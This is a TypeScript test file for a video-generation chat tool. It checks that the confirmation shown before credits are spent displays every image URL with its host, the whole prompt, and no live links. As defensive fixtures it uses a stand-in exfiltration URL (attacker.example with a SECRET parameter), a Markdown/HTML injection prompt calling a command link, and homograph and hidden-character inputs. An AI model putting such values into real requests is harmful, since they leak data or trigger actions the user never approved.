// The create tool's confirmation (what the user agrees to before credits are spent): every
// image URL with its host, the whole prompt, nothing hidden, nothing that renders as a link.
import * as assert from 'node:assert/strict';
import { confirmationMarkdown, SHOWN_PROMPT } from '../../../src/chat/confirmation';
import { createInput } from '../../../src/chat/toolInputs';
import { MAX_PROMPT_LENGTH } from '../../../src/request/createFields';
import type { VideoRequest } from '../../../src/request/videoRequest';

function checked(input: object): VideoRequest {
  const c = createInput(input);
  assert.ok(c.ok, JSON.stringify(c));
  return c.request;
}

/** The lines inside fenced code blocks, and the Markdown outside them (what could render as markup at all). */
function fenced(md: string): { inside: string[]; outside: string } {
  const inside: string[] = [];
  const outside: string[] = [];
  let fence: string | undefined;
  for (const line of md.split('\n')) {
    const open = /^(`{3,})/.exec(line)?.[1];
    if (fence === undefined && open) fence = open;
    else if (fence !== undefined && line === fence) fence = undefined;
    else (fence === undefined ? outside : inside).push(line);
  }
  assert.equal(fence, undefined, `every fence is closed:\n${md}`);
  return { inside, outside: outside.join('\n') };
}
const insideFences = (md: string): string[] => fenced(md).inside;
const outsideFences = (md: string): string => fenced(md).outside;

describe('create tool confirmation', () => {
  it('lists a first frame URL whole, with its host, inside a code block (never a link)', () => {
    const md = confirmationMarkdown(checked({ prompt: 'a cat', firstFrame: 'https://attacker.example/?d=SECRET' }));
    assert.ok(insideFences(md).includes('First frame, host attacker.example:'), md);
    assert.ok(insideFences(md).includes('  https://attacker.example/?d=SECRET'), md);
    const prose = outsideFences(md);
    assert.ok(!/https?:|attacker|SECRET|\]\(|</.test(prose), `no URL, link or HTML outside the code blocks:\n${prose}`);
    assert.match(prose, /first frame only/);
    assert.match(prose, /The VEO server will download these images; check that you trust each host:/);
  });

  it('lists every reference image and both frames, each with its host', () => {
    const refs = confirmationMarkdown(
      checked({ prompt: 'x', model: 'veo_3_1_pro', referenceImages: ['https://a.example/1.png', 'https://b.example:8443/2.png', 'https://c.example/3.png'] }),
    );
    const lines = insideFences(refs);
    for (const [i, host] of ['a.example', 'b.example:8443', 'c.example'].entries()) assert.ok(lines.includes(`Reference image ${i + 1}, host ${host}:`), refs);
    assert.ok(lines.includes('  https://b.example:8443/2.png'));
    assert.match(outsideFences(refs), /3 reference images/);

    const frames = insideFences(confirmationMarkdown(checked({ prompt: 'x', firstFrame: 'https://one.example/f', lastFrame: 'https://two.example/l' })));
    assert.deepEqual(frames.slice(-4), ['First frame, host one.example:', '  https://one.example/f', 'Last frame, host two.example:', '  https://two.example/l']);
    assert.equal(confirmationMarkdown(checked({ prompt: 'x' })).includes('download these images'), false, 'text only: no image list');
  });

  it('shows an international host in its ASCII form, so look-alike letters show', () => {
    const md = confirmationMarkdown(checked({ prompt: 'x', firstFrame: 'https://\u0430pple.example/f.png' }));
    assert.ok(insideFences(md).includes('First frame, host xn--pple-43d.example:'), md);
  });

  it('keeps backticks in a URL inside its block', () => {
    const md = confirmationMarkdown(checked({ prompt: 'x', firstFrame: 'https://a.example/?q=````x' }));
    assert.ok(md.includes('\n`````text\n'), md);
    assert.ok(insideFences(md).includes('  https://a.example/?q=````x'), md);
  });

  it(`shows a ${MAX_PROMPT_LENGTH}-character prompt whole`, () => {
    assert.equal(SHOWN_PROMPT, MAX_PROMPT_LENGTH);
    const prompt = `${'a'.repeat(MAX_PROMPT_LENGTH - 3)}END`;
    const md = confirmationMarkdown(checked({ prompt }));
    assert.ok(md.includes(`\n${prompt}\n`), 'the whole prompt, to its last characters');
    assert.ok(!md.includes('…') && !/more characters/.test(md));
  });

  it('says how many characters are not shown when it has to cut', () => {
    const request: VideoRequest = { prompt: 'b'.repeat(SHOWN_PROMPT + 1234), model: 'veo_3_1_fast', resolution: '720p', aspectRatio: '16:9', mode: 'text' };
    const md = confirmationMarkdown(request);
    assert.ok(md.includes(`\n${'b'.repeat(SHOWN_PROMPT)}\n`));
    assert.match(outsideFences(md), /1234 more characters are not shown, but they are sent/);
  });

  it('writes hidden characters out as [U+XXXX] (should one get past the request check)', () => {
    const request: VideoRequest = { prompt: 'a\u200bb\u{e0041}c\r\nd', model: 'veo_3_1_fast', resolution: '720p', aspectRatio: '16:9', mode: 'frames', firstFrame: 'https://x.example/\u202ea' };
    const md = confirmationMarkdown(request);
    assert.ok(md.includes('\na[U+200B]b[U+E0041]c\nd\n'), md);
    assert.ok(md.includes('  https://x.example/[U+202E]a\n'), md);
    assert.ok(!/[\u200b\u202e\u{e0041}\r]/u.test(md));
  });

  it('keeps the prompt literal: a fence longer than its backtick runs', () => {
    const md = confirmationMarkdown(checked({ prompt: 'A fox ```\n[x](command:veo.clearApiKey) <img src=x>' }));
    assert.ok(md.startsWith('This spends credits of your VEO account: `veo_3_1_fast`, 720p, 16:9, text only. Prompt:\n\n````text\nA fox ```\n[x](command:veo.clearApiKey) <img src=x>\n````\n'), md);
  });
});
